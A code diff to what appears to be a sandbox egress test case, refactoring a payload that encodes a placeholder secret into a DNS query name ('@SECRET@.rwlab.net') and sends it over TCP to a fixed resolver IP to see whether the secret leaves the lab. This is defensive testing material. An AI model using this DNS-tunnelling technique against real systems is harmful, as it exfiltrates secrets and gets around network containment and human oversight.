@@ -1,17 +1,13 @@
 """asks the resolver by TCP"""
 
+from act_parts import DNS_QUERY as _DNS_QUERY
 from evidence import secret_left as succeeded
 
 SHAPE = "DNS by its other road"
 PROMISE = "P24"
 LAB = True
 WALLS = "network-namespace"
-PYTHON = """
-import socket, struct
-def query(name, kind):
-    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
-    return b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + labels + b"\\0" + struct.pack(">HH", kind, 1)
-
+PYTHON = _DNS_QUERY + """
 asked = query("@SECRET@.rwlab.net", 1)
 with socket.create_connection(("93.184.216.53", 53), 30) as line:
     line.sendall(struct.pack(">H", len(asked)) + asked)
